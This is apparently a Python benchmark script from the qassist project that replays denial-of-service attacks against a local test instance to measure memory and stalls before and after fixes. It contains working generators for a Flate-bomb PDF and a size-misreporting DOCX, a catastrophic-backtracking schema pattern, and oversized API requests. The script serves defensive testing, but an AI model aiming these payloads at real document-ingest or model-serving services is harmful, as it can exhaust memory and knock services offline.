"""Issue #32's attacks, replayed against real processes, with what they cost before and after.

    python -m bench.attacks embeddings   # peak RSS of the web process: the largest accepted
                                         # embeddings requests, then the attack's text
    python -m bench.attacks question     # peak RSS of the web process: a 200,000-character
                                         # question to a tenant with documents
    python -m bench.attacks parser       # peak RSS of the indexing process (what the Celery
                                         # worker runs): a Flate-bomb PDF, an under-stated DOCX
    python -m bench.attacks grammar      # a hostile JSON Schema beside a normal stream: how long
                                         # the stream is held, /healthz meanwhile, SIGTERM

Each starts what it needs in a temporary folder (SQLite, embedded mode, no Redis) and prints
JSON. `--tree PATH` runs another checkout of qassist with this virtualenv (the "before" column
of docs/RELIABILITY.md, section 6, was measured with `git worktree add --detach /tmp/base
2aa7d63`, main before the fixes, and `--tree /tmp/base`); sizes, the batch, the hostile
pattern and its question are options, so that a "before" run can be kept bounded on a shared
machine and an accepted pattern can be tried too. The hostile files are built here (and by the
tests): `flate_bomb_pdf`, `understated_docx`.
"""

from __future__ import annotations

import argparse
import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from pathlib import Path
from typing import Any

import httpx

ROOT = Path(__file__).resolve().parent.parent
PYTHON = sys.executable
HOSTILE_PATTERN = "^(a{0,256}){0,256}$"  # the 248-byte request held replies 24 min


# --- hostile files ------------------------------------------------------------------------------


def flate_bomb_pdf(expanded: int) -> bytes:
    """A one-page PDF whose content stream is `expanded` bytes (text, then spaces) deflated:
    about a thousandth of that on disk."""
    deflate = zlib.compressobj(9)
    head = b"BT /F1 12 Tf 72 712 Td (Hello) Tj ET\n"
    parts = [deflate.compress(head)]
    block = b" " * (1 << 20)
    left = expanded - len(head)
    while left > 0:
        parts.append(deflate.compress(block[: min(left, len(block))]))
        left -= len(block)
    parts.append(deflate.flush())
    stream = b"".join(parts)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


_DOC_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w='
    b'"http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
)
_DOC_TAIL = b"</w:t></w:r></w:p></w:body></w:document>"
_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
    b'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    b'"application/xml"/><Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
    b"schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    b'" Target="word/document.xml"/></Relationships>'
)


def understated_docx(real: int, claimed: int = 1_000) -> bytes:
    """A DOCX whose word/document.xml is `real` bytes, while its ZIP directory (and local
    header) say `claimed`: a size check that trusts the directory lets it through."""
    buffer = _io()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _RELS)
        with zf.open("word/document.xml", "w") as member:
            member.write(_DOC_HEAD)
            block = b"A" * (1 << 20)
            left = real - len(_DOC_HEAD) - len(_DOC_TAIL)
            while left > 0:
                member.write(block[: min(left, len(block))])
                left -= len(block)
            member.write(_DOC_TAIL)
        info = zf.getinfo("word/document.xml")
    data = bytearray(buffer.getvalue())
    name = b"word/document.xml"
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
    data[central + 24 : central + 28] = claimed.to_bytes(4, "little")  # uncompressed size
    if data[info.header_offset + 22 : info.header_offset + 26] != b"\0\0\0\0":
        data[info.header_offset + 22 : info.header_offset + 26] = claimed.to_bytes(4, "little")
    return bytes(data)


def _io() -> Any:
    import io

    return io.BytesIO()


# --- plumbing -----------------------------------------------------------------------------------


def env_for(tree: Path, workdir: Path, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("QASSIST_")}
    env.pop("REDIS_URL", None)
    env.update(
        PYTHONPATH=str(tree),
        PYTHONUNBUFFERED="1",
        DJANGO_SETTINGS_MODULE="qassist.settings",
        DATABASE_URL=f"sqlite:///{workdir / 'attacks.sqlite3'}",
        QASSIST_VAR_DIR=str(workdir),
        QASSIST_ENGINE="embedded",
        QASSIST_MODELS_DIR=str(ROOT / "models"),
        QASSIST_GENERATE_TITLES="0",
        QASSIST_DEFAULT_TEMPERATURE="0",
        ALLOWED_HOSTS="127.0.0.1,localhost",
        LOG_LEVEL="WARNING",
    )
    env.update(extra)
    return env


def manage(tree: Path, env: dict[str, str], *args: str) -> str:
    done = subprocess.run(
        [PYTHON, "manage.py", *args], env=env, cwd=tree, capture_output=True, text=True
    )
    if done.returncode != 0:
        raise RuntimeError(f"manage.py {' '.join(args)} failed:\n{done.stderr[-3000:]}")
    return done.stdout


def api_key(tree: Path, env: dict[str, str]) -> str:
    manage(tree, env, "migrate", "-v0")
    manage(tree, env, "create_tenant", "attacks")
    return manage(tree, env, "create_api_key", "attacks").strip().splitlines()[-1]


def memory_mb(pid: int) -> dict[str, float]:
    """The process's resident memory now and its peak (VmHWM), in MiB."""
    found = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        key, _, value = line.partition(":")
        if key in ("VmRSS", "VmHWM"):
            found[key] = round(int(value.split()[0]) / 1024, 1)
    return found


class Web:
    """daphne in embedded mode on a free port, in `tree`."""

    def __init__(self, tree: Path, env: dict[str, str], log: Path) -> None:
        from bench.run import free_port

        self.port = free_port()
        self.base = f"http://127.0.0.1:{self.port}"
        self.log = log.open("wb")
        command = [PYTHON, "-m", "daphne", "-b", "127.0.0.1", "-p", str(self.port)]
        self.proc = subprocess.Popen(
            [*command, "qassist.asgi:application"],
            env=env,
            cwd=tree,
            stdout=self.log,
            stderr=subprocess.STDOUT,
        )

    def wait(self, timeout: float = 240) -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"daphne exited early; see {self.log.name}")
            try:
                if httpx.get(f"{self.base}/healthz", timeout=3).status_code == 200:
                    return
            except httpx.HTTPError:
                pass
            time.sleep(0.5)
        raise RuntimeError(f"/healthz not 200 within {timeout} s; see {self.log.name}")

    def stop(self, timeout: float = 60) -> dict[str, Any]:
        """SIGTERM, then how long it took to exit (SIGKILL after `timeout`)."""
        started = time.monotonic()
        self.proc.send_signal(signal.SIGTERM)
        try:
            code = self.proc.wait(timeout)
            return {"exited_after_s": round(time.monotonic() - started, 1), "code": code}
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
            return {"exited_after_s": None, "killed_after_s": timeout}


# --- embeddings ---------------------------------------------------------------------------------


def run_embeddings(args: argparse.Namespace, workdir: Path) -> dict[str, Any]:
    env = env_for(args.tree, workdir, QASSIST_PRELOAD_ENGINE="0")
    key = api_key(args.tree, env)
    web = Web(args.tree, env, workdir / "web.log")
    results: dict[str, Any] = {}
    try:
        web.wait()
        headers = {"Authorization": f"Bearer {key}"}
        sentence = "The hotel cap per night is EUR 180 in Class A cities, 150 elsewhere. "

        def send(name: str, texts: Any) -> None:
            started = time.monotonic()
            try:
                response = httpx.post(
                    f"{web.base}/v1/embeddings",
                    json={"model": "use-multilingual-v3", "input": texts},
                    headers=headers,
                    timeout=args.timeout,
                )
                status: Any = response.status_code
            except httpx.HTTPError as exc:
                status = f"{type(exc).__name__}"
            alive = web.proc.poll() is None
            results[name] = {
                "status": status,
                "seconds": round(time.monotonic() - started, 2),
                "web_alive": alive,
                **(memory_mb(web.proc.pid) if alive else {}),
            }
            print(name, json.dumps(results[name]), flush=True)

        send("warm-up", "hello")
        # The largest accepted: one text at the model's maximum (about 1,000 tokens), then the
        # most texts one request may hold (2,048; --texts for fewer), each of a long paragraph.
        send("one text of 3,900 characters", (sentence * 60)[:3_900])
        send(f"{args.texts:,} texts of 480 characters", [(sentence * 7)[:480]] * args.texts)
        send(f"the attack: one text of {args.chars:,} characters", "a " * (args.chars // 2))
    finally:
        results["stop"] = web.stop()
    return results


# --- a long question to a tenant with documents ------------------------------------------------


def run_question(args: argparse.Namespace, workdir: Path) -> dict[str, Any]:
    env = env_for(
        args.tree,
        workdir,
        QASSIST_MODEL=str(ROOT / "models" / "SmolLM2-135M-Instruct.Q4_1.gguf"),
        CELERY_TASK_ALWAYS_EAGER="1",  # the upload is indexed in the web process at once
    )
    key = api_key(args.tree, env)
    web = Web(args.tree, env, workdir / "web.log")
    results: dict[str, Any] = {}
    try:
        web.wait()
        headers = {"Authorization": f"Bearer {key}"}
        policy = (ROOT / "bench" / "rag_eval" / "data" / "acme" / "travel-policy.md").read_bytes()
        upload = httpx.post(
            f"{web.base}/v1/knowledge/documents",
            files={"file": ("travel-policy.md", policy)},
            headers=headers,
            timeout=120,
        )
        results["upload"] = upload.status_code
        results["before"] = memory_mb(web.proc.pid)
        served = httpx.get(f"{web.base}/v1/models", headers=headers).json()["data"][0]["id"]
        question = "What is the hotel cap? " * (args.chars // 23)
        started = time.monotonic()
        response = httpx.post(
            f"{web.base}/v1/chat/completions",
            json={"model": served, "messages": [{"role": "user", "content": question}]},
            headers=headers,
            timeout=args.timeout,
        )
        results["question"] = {
            "chars": len(question),
            "status": response.status_code,
            "code": (response.json().get("error") or {}).get("code"),
            "seconds": round(time.monotonic() - started, 2),
            **memory_mb(web.proc.pid),
        }
        print(json.dumps(results), flush=True)
    finally:
        results["stop"] = web.stop()
    return results


# --- parser bombs in the indexing process -------------------------------------------------------

_INDEX_SCRIPT = """
import json, resource, sys, time
from knowledge import ingest, services
from tenants.models import Tenant
tenant, _ = Tenant.objects.get_or_create(slug="attacks", defaults={"name": "Attacks"})
data = open(sys.argv[1], "rb").read()
document = services.document_upload(
    tenant=tenant, upload=services.Upload(sys.argv[2], data), title=""
)
started = time.monotonic()
status = ingest.document_index(document_id=document.pk, version=document.version)
document.refresh_from_db()
print(json.dumps({
    "status": status, "error": document.error, "seconds": round(time.monotonic() - started, 1),
    "indexing_process_peak_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024,
    "children_peak_mb": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024,
}))
"""


def run_parser(args: argparse.Namespace, workdir: Path) -> dict[str, Any]:
    env = env_for(args.tree, workdir, QASSIST_EMBEDDING_MODEL="hashing")
    manage(args.tree, env, "migrate", "-v0")
    script = workdir / "index.py"
    script.write_text("import django\ndjango.setup()\n" + _INDEX_SCRIPT, encoding="utf-8")
    results: dict[str, Any] = {}
    files = {
        # The largest accepted: a PDF whose stream stays under the parsers' cap (128 MiB).
        f"pdf, one Flate stream of {args.pdf_ok_mb:,} MiB (accepted)": (
            "accepted.pdf",
            lambda: flate_bomb_pdf(args.pdf_ok_mb << 20),
        ),
        f"pdf, one Flate stream of {args.pdf_mb:,} MiB": (
            "bomb.pdf",
            lambda: flate_bomb_pdf(args.pdf_mb << 20),
        ),
        f"docx, {args.docx_mb:,} MiB said to be 1,000 B": (
            "bomb.docx",
            lambda: understated_docx(args.docx_mb << 20),
        ),
    }
    for name, (filename, build) in files.items():
        path = workdir / filename
        path.write_bytes(build())
        started = time.monotonic()
        done = subprocess.run(
            [PYTHON, str(script), str(path), filename],
            env=env,
            cwd=args.tree,
            capture_output=True,
            text=True,
            timeout=args.timeout,
        )
        if done.returncode != 0:
            result: dict[str, Any] = {"exit": done.returncode, "stderr": done.stderr[-500:]}
        else:
            result = json.loads(done.stdout.strip().splitlines()[-1])
        result["file_kb"] = path.stat().st_size // 1024
        result["wall_s"] = round(time.monotonic() - started, 1)
        results[name] = result
        print(name, json.dumps(result), flush=True)
    return results


# --- a hostile grammar beside a normal stream --------------------------------------------------


def run_grammar(args: argparse.Namespace, workdir: Path) -> dict[str, Any]:
    model = ROOT / "models" / args.model
    env = env_for(args.tree, workdir, QASSIST_MODEL=str(model), QASSIST_THREADS="2")
    key = api_key(args.tree, env)
    web = Web(args.tree, env, workdir / "web.log")
    headers = {"Authorization": f"Bearer {key}"}
    results: dict[str, Any] = {"health": []}
    try:
        web.wait()
        served = httpx.get(f"{web.base}/v1/models", headers=headers).json()["data"][0]["id"]
        gaps: list[float] = []
        last_delta: list[float] = []  # when the story's latest delta came
        stream_done = threading.Event()

        def normal_stream() -> None:
            body = {
                "model": served,
                "stream": True,
                "max_tokens": args.max_tokens,
                "messages": [{"role": "user", "content": "Tell a long story about a ship."}],
            }
            last = None
            try:
                with httpx.stream(
                    "POST",
                    f"{web.base}/v1/chat/completions",
                    json=body,
                    headers=headers,
                    timeout=args.timeout,
                ) as response:
                    for line in response.iter_lines():
                        if line.startswith("data: {"):
                            now = time.monotonic()
                            if last is not None:
                                gaps.append(now - last)
                            last = now
                            last_delta[:] = [now]
                        if line == "data: [DONE]":
                            stream_done.set()
            except httpx.HTTPError:
                pass  # cut by the SIGTERM: "finished" says so

        streamer = threading.Thread(target=normal_stream, daemon=True)
        streamer.start()
        time.sleep(3)  # the story streams
        hostile = {
            "model": served,
            "max_tokens": 64,
            "temperature": 0,
            "messages": [{"role": "user", "content": args.ask}],
            "response_format": {
                "type": "json_schema",
                "json_schema": {
                    "name": "a",
                    "schema": {
                        "type": "object",
                        "properties": {"x": {"type": "string", "pattern": args.pattern}},
                        "required": ["x"],
                    },
                },
            },
        }
        outcome: dict[str, Any] = {}

        def send_hostile() -> None:
            started = time.monotonic()
            try:
                response = httpx.post(
                    f"{web.base}/v1/chat/completions",
                    json=hostile,
                    headers=headers,
                    timeout=args.window + 5,
                )
                answer = response.json()
                error = answer.get("error") or {}
                outcome.update(status=response.status_code, code=error.get("code"))
                if "choices" in answer:
                    outcome["reply"] = answer["choices"][0]["message"]["content"][:120]
                    outcome["tokens"] = answer["usage"]["completion_tokens"]
            except httpx.HTTPError as exc:
                outcome.update(status=type(exc).__name__)
            outcome["seconds"] = round(time.monotonic() - started, 2)

        sender = threading.Thread(target=send_hostile, daemon=True)
        sender.start()
        started = time.monotonic()
        # Watched until the hostile request has its answer and the story has ended (or the
        # window is over): a SIGTERM sooner would cut the story and say nothing of it.
        while time.monotonic() - started < args.window and (
            sender.is_alive() or not stream_done.is_set()
        ):
            sample: dict[str, Any] = {"t": round(time.monotonic() - started, 1)}
            try:
                health = httpx.get(f"{web.base}/healthz", timeout=3)
                engine = health.json().get("engine", {})
                sample["status"] = health.status_code
                sample["stalled"] = any(w.get("stalled") for w in engine.get("workers", []))
            except httpx.HTTPError as exc:
                sample["error"] = type(exc).__name__
            results["health"].append(sample)
            time.sleep(2)
        sender.join(5)
        results["hostile"] = outcome or {"status": "no answer", "seconds": args.window}
        time.sleep(2)
        results["normal_stream"] = {
            "deltas": len(gaps) + 1,
            "longest_gap_s": round(max(gaps), 2) if gaps else None,
            "finished": stream_done.is_set(),
            # A story still held: how long since its latest delta (more than any gap above).
            "silent_for_s": (
                None
                if stream_done.is_set() or not last_delta
                else round(time.monotonic() - last_delta[0], 1)
            ),
        }
        print(json.dumps(results), flush=True)
    finally:
        results["sigterm"] = web.stop(timeout=args.stop_timeout)
    return results


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("scenario", choices=["embeddings", "question", "parser", "grammar"])
    parser.add_argument("--tree", type=Path, default=ROOT, help="the qassist checkout to run")
    parser.add_argument("--chars", type=int, default=200_000, help="the attack's text length")
    parser.add_argument("--texts", type=int, default=2_048, help="the largest batch's texts")
    parser.add_argument("--pdf-mb", type=int, default=4096, help="the PDF stream, expanded")
    parser.add_argument("--pdf-ok-mb", type=int, default=120, help="a PDF stream under the cap")
    parser.add_argument("--docx-mb", type=int, default=1024, help="the DOCX part, expanded")
    parser.add_argument("--model", default="qwen2.5-coder-0.5b-instruct-q4_k_m.gguf")
    parser.add_argument("--ask", default="Give x as many a's as you like.", help="its question")
    parser.add_argument("--pattern", default=HOSTILE_PATTERN, help="the hostile string pattern")
    parser.add_argument("--max-tokens", type=int, default=400, help="the normal stream's")
    parser.add_argument("--window", type=float, default=60, help="seconds to watch (grammar)")
    parser.add_argument("--stop-timeout", type=float, default=60, help="SIGTERM, then SIGKILL")
    parser.add_argument("--timeout", type=float, default=600)
    args = parser.parse_args()
    args.tree = args.tree.resolve()
    runs = {
        "embeddings": run_embeddings,
        "question": run_question,
        "parser": run_parser,
        "grammar": run_grammar,
    }
    with tempfile.TemporaryDirectory(prefix="qassist-attacks-") as tmp:
        result = runs[args.scenario](args, Path(tmp))
    print(json.dumps({"scenario": args.scenario, "tree": str(args.tree), **result}, indent=1))


if __name__ == "__main__":
    main()
